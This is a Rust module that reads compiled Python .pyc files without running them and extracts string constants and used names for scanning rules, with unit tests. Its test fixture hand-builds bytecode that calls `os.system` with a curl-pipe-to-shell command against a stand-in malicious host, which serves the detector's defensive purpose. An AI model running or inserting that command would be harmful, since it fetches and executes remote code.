//! Compiled Python (`.pyc`) read without running it: the header and the `marshal` stream
//! are parsed to list, for every code object, its string constants and the names it uses
//! (`co_consts`, `co_names`). Bytecode itself is not disassembled. Python 2.7 and 3.x
//! layouts are known; an unknown or damaged stream yields what was read before it.

/// What a `.pyc` holds that rules can read.
#[derive(Debug, Default, PartialEq)]
pub(crate) struct PycStrings {
    /// String and bytes constants (bytes as lossy UTF-8), in stream order.
    pub consts: Vec<String>,
    /// Names of globals, attributes and imports the code uses (`co_names`).
    pub names: Vec<String>,
}

/// Code-object layout of one Python version range.
#[derive(Clone, Copy)]
struct Layout {
    /// 32-bit integer fields before `co_code`.
    ints_before: usize,
    /// Objects after `co_code` up to `co_firstlineno`: consts, names, then the rest.
    objs_mid: usize,
    /// Objects after `co_firstlineno`.
    objs_after: usize,
}

/// Deepest nesting followed (CPython itself stops at 2,000; real files use < 50).
const MAX_DEPTH: u32 = 200;
/// Most objects read from one file.
const MAX_OBJECTS: usize = 2_000_000;

/// Parse a `.pyc` file. `None` when the header is not a known Python magic number.
pub(crate) fn read(data: &[u8]) -> Option<PycStrings> {
    if data.len() < 8 || data[2..4] != *b"\r\n" {
        return None;
    }
    let magic = u16::from_le_bytes([data[0], data[1]]);
    let (layout, header) = match magic {
        62211 => (
            Layout {
                ints_before: 4,
                objs_mid: 7,
                objs_after: 1,
            },
            8,
        ),
        3000..=3399 => (
            Layout {
                ints_before: 5,
                objs_mid: 7,
                objs_after: 1,
            },
            match magic {
                3390.. => 16,
                3230.. => 12,
                _ => 8,
            },
        ),
        3400..=3449 => (
            Layout {
                ints_before: 6,
                objs_mid: 7,
                objs_after: 1,
            },
            16,
        ),
        3450..=3999 => (
            Layout {
                ints_before: 5,
                objs_mid: 7,
                objs_after: 2,
            },
            16,
        ),
        _ => return None,
    };
    let mut r = Reader {
        data,
        pos: header.min(data.len()),
        layout,
        objects: 0,
        out: PycStrings::default(),
        all: Vec::new(),
        refs: Vec::new(),
        interned: Vec::new(),
        py2: magic == 62211,
    };
    let _ = r.object(0, Field::Other);
    Some(r.out)
}

/// Which field of a code object a value belongs to.
#[derive(Clone, Copy, PartialEq)]
enum Field {
    Consts,
    Names,
    Other,
}

struct Reader<'a> {
    data: &'a [u8],
    pos: usize,
    layout: Layout,
    objects: usize,
    out: PycStrings,
    /// Every string read (and re-read through a reference), in order.
    all: Vec<String>,
    /// Objects stored for back references (`FLAG_REF`), in the order marshal numbers them:
    /// the range of `all` their reading produced.
    refs: Vec<(usize, usize)>,
    /// Python 2's interned strings (`t`), referenced by `R`.
    interned: Vec<String>,
    py2: bool,
}

impl Reader<'_> {
    fn take(&mut self, n: usize) -> Option<&[u8]> {
        let end = self.pos.checked_add(n)?;
        let s = self.data.get(self.pos..end)?;
        self.pos = end;
        Some(s)
    }

    fn u8(&mut self) -> Option<u8> {
        self.take(1).map(|b| b[0])
    }

    fn i32(&mut self) -> Option<i32> {
        self.take(4)
            .map(|b| i32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    fn len32(&mut self) -> Option<usize> {
        usize::try_from(self.i32()?).ok()
    }

    fn text(&mut self, n: usize, field: Field) -> Option<String> {
        let b = self.take(n)?;
        let s = String::from_utf8_lossy(b).into_owned();
        self.record(s.clone(), field);
        Some(s)
    }

    fn record(&mut self, s: String, field: Field) {
        if self.all.len() < MAX_OBJECTS {
            self.all.push(s.clone());
        }
        match field {
            Field::Consts => self.out.consts.push(s),
            Field::Names => self.out.names.push(s),
            Field::Other => {}
        }
    }

    /// Read one object; strings are recorded under `field`.
    fn object(&mut self, depth: u32, field: Field) -> Option<()> {
        if depth > MAX_DEPTH {
            return None;
        }
        self.objects += 1;
        if self.objects > MAX_OBJECTS {
            return None;
        }
        let byte = self.u8()?;
        let code = byte & 0x7f;
        // FLAG_REF: the object gets the next reference number, before its contents.
        let slot = (byte & 0x80 != 0).then(|| {
            self.refs.push((self.all.len(), self.all.len()));
            self.refs.len() - 1
        });
        self.value(code, depth, field)?;
        if let Some(i) = slot {
            self.refs[i].1 = self.all.len();
        }
        Some(())
    }

    fn value(&mut self, code: u8, depth: u32, field: Field) -> Option<()> {
        match code {
            b'0' | b'N' | b'F' | b'T' | b'S' | b'.' => {}
            b'r' => {
                // A back reference: the strings the referenced object held, again.
                let i = self.len32()?;
                let (a, b) = *self.refs.get(i)?;
                for k in a..b.min(a + 10_000) {
                    let s = self.all.get(k)?.clone();
                    self.record(s, field);
                }
            }
            b'R' if self.py2 => {
                let i = self.len32()?;
                let s = self.interned.get(i)?.clone();
                self.record(s, field);
            }
            b'i' | b'R' => {
                self.take(4)?;
            }
            b'I' | b'g' => {
                self.take(8)?;
            }
            b'y' => {
                self.take(16)?;
            }
            b'f' => {
                let n = self.u8()? as usize;
                self.take(n)?;
            }
            b'x' => {
                for _ in 0..2 {
                    let n = self.u8()? as usize;
                    self.take(n)?;
                }
            }
            b'l' => {
                let n = self.i32()?.unsigned_abs() as usize;
                self.take(n.checked_mul(2)?)?;
            }
            b's' | b't' | b'u' | b'a' | b'A' => {
                let n = self.len32()?;
                let s = self.text(n, field)?;
                if code == b't' && self.py2 {
                    self.interned.push(s);
                }
            }
            b'z' | b'Z' => {
                let n = self.u8()? as usize;
                self.text(n, field)?;
            }
            b'(' | b'[' | b'<' | b'>' => {
                let n = self.len32()?;
                for _ in 0..n {
                    self.object(depth + 1, field)?;
                }
            }
            b')' => {
                let n = self.u8()?;
                for _ in 0..n {
                    self.object(depth + 1, field)?;
                }
            }
            b'{' => loop {
                if self.data.get(self.pos).is_some_and(|&b| b & 0x7f == b'0') {
                    self.pos += 1;
                    break;
                }
                self.object(depth + 1, field)?;
                self.object(depth + 1, field)?;
            },
            b':' => {
                for _ in 0..3 {
                    self.object(depth + 1, field)?;
                }
            }
            b'c' => self.code(depth)?,
            _ => return None,
        }
        Some(())
    }

    fn code(&mut self, depth: u32) -> Option<()> {
        let l = self.layout;
        self.take(4 * l.ints_before)?;
        self.object(depth + 1, Field::Other)?; // co_code
        self.object(depth + 1, Field::Consts)?;
        self.object(depth + 1, Field::Names)?;
        for _ in 2..l.objs_mid {
            self.object(depth + 1, Field::Other)?;
        }
        self.take(4)?; // co_firstlineno
        for _ in 0..l.objs_after {
            self.object(depth + 1, Field::Other)?;
        }
        Some(())
    }
}

#[cfg(test)]
/// A Python 3.11 `.pyc` of `import os; os.system('curl -s http://bad.example-c2.net/a | sh')`,
/// assembled by hand in the 3.11 marshal layout.
pub(crate) fn pyc_311() -> Vec<u8> {
    let mut v = Vec::new();
    v.extend_from_slice(&3495u16.to_le_bytes());
    v.extend_from_slice(b"\r\n");
    v.extend_from_slice(&[0; 12]); // flags, mtime, size
    v.push(b'c' | 0x80);
    v.extend_from_slice(&[0; 20]); // argcount, posonly, kwonly, stacksize, flags
    // co_code
    v.push(b's');
    v.extend_from_slice(&4i32.to_le_bytes());
    v.extend_from_slice(&[0x97, 0, 0x64, 0]);
    // co_consts: (0, None, 'curl ...')
    let cmd = b"curl -s http://bad.example-c2.net/a | sh";
    v.push(b')');
    v.push(3);
    v.push(b'i');
    v.extend_from_slice(&0i32.to_le_bytes());
    v.push(b'N');
    v.push(b'a');
    v.extend_from_slice(&(cmd.len() as i32).to_le_bytes());
    v.extend_from_slice(cmd);
    // co_names: ('os', 'system'), the second interned with a back reference first
    v.push(b')');
    v.push(2);
    v.push(b'Z' | 0x80);
    v.push(2);
    v.extend_from_slice(b"os");
    v.push(b'Z');
    v.push(6);
    v.extend_from_slice(b"system");
    // localsplusnames, localspluskinds, filename, name, qualname
    v.push(b')');
    v.push(0);
    v.push(b's');
    v.extend_from_slice(&0i32.to_le_bytes());
    for s in [&b"<x>"[..], b"<module>", b"<module>"] {
        v.push(b'z');
        v.push(s.len() as u8);
        v.extend_from_slice(s);
    }
    v.extend_from_slice(&1i32.to_le_bytes()); // firstlineno
    for _ in 0..2 {
        v.push(b's');
        v.extend_from_slice(&0i32.to_le_bytes());
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_constants_and_names_of_a_311_code_object() {
        let p = read(&pyc_311()).unwrap();
        assert_eq!(p.consts, vec!["curl -s http://bad.example-c2.net/a | sh"]);
        assert_eq!(p.names, vec!["os", "system"]);
    }

    /// Prints `path consts names` for every `.pyc` listed in the file `$PYC_LIST`, for
    /// `bench/pyc/check.sh` to compare with CPython's own `marshal` (ignored: needs the list).
    #[test]
    #[ignore]
    fn counts_for_listed_files() {
        let list = std::env::var("PYC_LIST").expect("PYC_LIST names a file of .pyc paths");
        for p in std::fs::read_to_string(list).unwrap().lines() {
            let r = read(&std::fs::read(p).unwrap()).unwrap_or_default();
            println!("{p} {} {}", r.consts.len(), r.names.len());
        }
    }

    #[test]
    fn damaged_or_foreign_data_is_not_an_error() {
        assert_eq!(read(b"not a pyc at all"), None);
        let whole = pyc_311();
        // Cut anywhere: what came before the cut is kept, nothing panics.
        for cut in 0..whole.len() {
            let _ = read(&whole[..cut]);
        }
        // Deep nesting stops at the depth limit.
        let mut deep = whole[..16].to_vec();
        deep.extend(std::iter::repeat_n([b')', 1], 100_000).flatten());
        assert!(read(&deep).unwrap().consts.is_empty());
    }
}
